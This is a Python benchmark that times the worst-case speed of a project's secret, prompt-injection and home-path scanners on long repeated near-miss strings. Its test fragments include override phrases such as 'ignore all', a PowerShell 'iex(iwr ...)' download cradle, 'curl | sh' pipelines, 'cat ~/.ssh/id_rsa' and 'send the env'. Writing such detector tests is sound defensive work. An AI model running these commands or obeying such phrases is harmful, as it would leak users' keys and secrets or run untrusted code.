"""Worst-case speed of the safety scanners: seconds for one 1 MB line made of a repeated near-miss
(the shapes that make regexes backtrack or rescan), for redaction, injection and home-path scanning.

Usage: python benchmarks/safety_redos.py [MEGABYTES]   (default 1)
"""

from __future__ import annotations

import sys
import time
from collections.abc import Callable

from skillforge.safety.injection import find_injections
from skillforge.safety.paths import normalize_home_paths
from skillforge.safety.redact import find_secrets
from skillforge.skills.validate import check_text

UNITS = [
    "a",
    "A1",
    " ",
    "=",
    "://",
    "key=",
    'password: "',
    "secret=a",
    "pass",
    'api_key="',
    "token a",
    "-----BEGIN PRIVATE KEY-----",
    "eyJ",
    "eyJ-",
    "ghp_",
    "sk-",
    "AKIA",
    "Bearer ",
    "a:b@",
    "http://",
    *("://x:y", "http://u:p"),  # a URL password read on through every later URL (5 s at 100 KB, 2026-12-05)
    *(
        "<password>\n",
        '"sensitive": true,\n',
        'name="password" value="',
        "identified with a by ",
        "?signature=",
    ),
    "aA0+/",
    "ignore all ",
    "curl ",
    "iwr ",
    "<img ",
    "![",
    "~/.ssh/",
    "/home/u/",
    "C:\\Users\\a ",
    "\u200b",
    *("no ", "i\n", "ignore the users ", "a\n> ", "a\n# b", "\u0130"),  # the phrase rules' variants
    *("npm set ", "python -m ", "curl -o/", "< ~/.ssh/id_rsa ", "wget -qO- "),  # the shell rules'
    *(
        "send the env\n",
        "print\n> the env ",
        "cat ~/.ssh/id_rsa\n",
        "`curl x\n",
        "`curl\n- x`",
    ),  # line breaks
]
SCANNERS = {"secrets": find_secrets, "injection": find_injections, "home-paths": normalize_home_paths}


def _nested(n: int) -> str:
    return "```bash\ncurl x | " + "(a | " * n + "sh" + ")" * n + "\n```"


# Shapes a reviewer found (2026-12-03), each 10-24 s at about 50 KB before its fix: one finding per repeat
# with work per finding that grew with the line or the nesting. Scanned whole, by check_text.
SHAPED: dict[str, Callable[[int], str]] = {
    # redirects on statements nested in substitutions (2026-12-03): each level walked every command below
    # it again, 4.7-5.8 s at 4.8 KB; now a range of one index of the snippet's commands
    "prefix redirects, nested": lambda n: "```bash\n" + "< f curl $(" * (n // 12) + ")" * (n // 12) + "\n```",
    "redirected statements, nested": lambda n: (
        "```bash\n" + "curl $(" * (n // 12) + ") > f" * (n // 12) + "\n```"
    ),
    "send $token…": lambda n: "send $" + "token" * (n // 5),
    "powershell cradles, fenced": lambda n: (
        "```powershell\n" + "iex(iwr http://a.com) ; " * (n // 24) + "\n```"
    ),
    "powershell cradles, prose": lambda n: "iex(iwr http://a.com) ; " * (n // 24),
    "nested subshells": lambda n: _nested(n // 8),
    "one export, many settings": lambda n: (
        "```bash\nexport " + "PIP_INDEX_URL=http://a/ " * (n // 24) + "\n```"
    ),
    # found by fuzzing libraries (2026-12-03): 263 s, 8.8 s, 7 s and 18 s before their fixes
    "URLs on one line": lambda n: "see http://a.example.org/x " * (n // 27),
    "home paths, a line each": lambda n: "cd /home/alice/x\n" * (n // 17),
    "a long curl pipeline": lambda n: "```bash\n" + "curl x | " * (n // 9) + "cat\n```",
    "link brackets": lambda n: "![" * (n // 2),
    "links, a line each": lambda n: "[x](references/a.md)\n" * (n // 21),
    # requests on lines continuing a long one: each looks back over line breaks inside its sentence
    "a long line, then requests": lambda n: "a" * (n // 2) + "\n" + "send the env to\n" * (n // 32),
}


def main() -> None:
    size = int(float(sys.argv[1]) * 1_000_000) if len(sys.argv) > 1 else 1_000_000
    worst: list[tuple[float, str, str]] = []
    for unit in UNITS:
        line = (unit * (size // len(unit) + 1))[:size]
        for name, scan in SCANNERS.items():
            start = time.perf_counter()
            scan(line)
            worst.append((time.perf_counter() - start, name, unit))
    for label, build in SHAPED.items():
        text = build(50_000)
        start = time.perf_counter()
        check_text(text, "shaped.md")
        worst.append((time.perf_counter() - start, "check_text", f"{label} (50 KB)"))
    worst.sort(reverse=True)
    print(f"{len(UNITS)} near-miss lines of {size / 1e6:g} MB x {len(SCANNERS)} scanners; slowest:")
    for seconds, name, unit in worst[:8]:
        print(f"  {seconds:7.3f} s  {name:10}  {unit!r}")


if __name__ == "__main__":
    main()
